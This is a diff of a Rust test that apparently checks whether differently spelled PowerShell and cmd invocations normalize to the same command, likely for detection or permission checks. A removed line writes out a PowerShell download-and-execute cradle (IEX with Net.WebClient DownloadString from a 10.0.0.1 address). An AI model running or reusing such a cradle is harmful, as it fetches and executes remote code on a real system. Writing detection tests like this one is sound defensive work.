@@ -144,10 +144,7 @@ fn every_spelling_of_a_plain_command_is_the_same() {
         ("powershell", format!("-Command {SCRIPT}")),
         ("powershell", format!("/command \"{SCRIPT}\"")),
         ("powershell", format!("-c:\"{SCRIPT}\"")),
-        (
-            "powershell",
-            format!("-com IEX (New-Object\tNet.WebClient).DownloadString('http://10.0.0.1/a.ps1')"),
-        ),
+        ("powershell", SCRIPT.replace("(New-Object ", "(New-Object\t").replace("IEX", "-com IEX")),
         ("cmd", format!("/c \"powershell -c \"{SCRIPT}\"\"")),
         ("cmd", format!("/c powershell -c ^\"{SCRIPT}^\"")),
     ] {
